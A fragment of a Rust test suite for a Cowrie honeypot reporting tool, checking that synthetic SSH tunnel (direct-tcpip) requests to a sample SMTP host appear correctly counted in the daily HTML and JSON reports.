            let out = render(&results[0], f, report.templates.get(f.name()).map(String::as_str), None).unwrap();
            insta::assert_snapshot!(format!("report_{}@{name}", f.name()), out);
        }
    }
}

/// A day of heavy proxy abuse shows on the daily page: the tunnel section names the target
/// with its request count, charted, on both backends (and in the JSON document's new field).
#[tokio::test]
async fn a_day_of_proxy_abuse_is_visible_on_the_daily_page() {
    let tmp = tempfile::tempdir().unwrap();
    let mut log = String::new();
    for s in 0..40 {
        let src = format!("198.18.0.{}", s % 7 + 1);
        let at = |sec: u32| format!("2025-09-22T10:{:02}:{:02}.000000Z", s, sec);
        log.push_str(&format!(
            "{{\"eventid\":\"cowrie.session.connect\",\"session\":\"p{s}\",\"src_ip\":\"{src}\",\"sensor\":\"s1\",\"protocol\":\"ssh\",\"timestamp\":\"{}\"}}\n",
            at(0)
        ));
        for r in 0..5 {
            log.push_str(&format!(
                "{{\"eventid\":\"cowrie.direct-tcpip.request\",\"session\":\"p{s}\",\"src_ip\":\"{src}\",\"sensor\":\"s1\",\"dst_ip\":\"smtp.victim.example\",\"dst_port\":25,\"src_port\":1,\"timestamp\":\"{}\"}}\n",
                at(r + 1)
            ));
        }
    }
    let f = tmp.path().join("proxy.json");
    std::fs::write(&f, log).unwrap();
    let report = builtin::builtin("daily").unwrap().unwrap();
    let now = Utc.with_ymd_and_hms(2025, 9, 30, 0, 0, 0).unwrap();
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        let result = run(&db.store, &report, &[("date".into(), "2025-09-22".into())], now).await.unwrap();
        let html = render(&result, Format::Html, None, None).unwrap();
        let section = html.split("<h2>Tunnel (direct-tcpip) activity</h2>").nth(1).expect("a tunnel section");
        assert!(section.contains("smtp.victim.example:25 — requests: 200</title>"), "{}: {section}", db.label);
        let json = render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap();
        let doc: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(doc["tunnels"]["top"][0]["requests"], 200, "{}", db.label);
        assert_eq!(doc["tunnels"]["top"][0]["sources"], 7, "{}", db.label);
        assert_eq!(doc["sessions"]["total"], 40, "{}: the cowrieprocessor fields stay", db.label);
    }
}
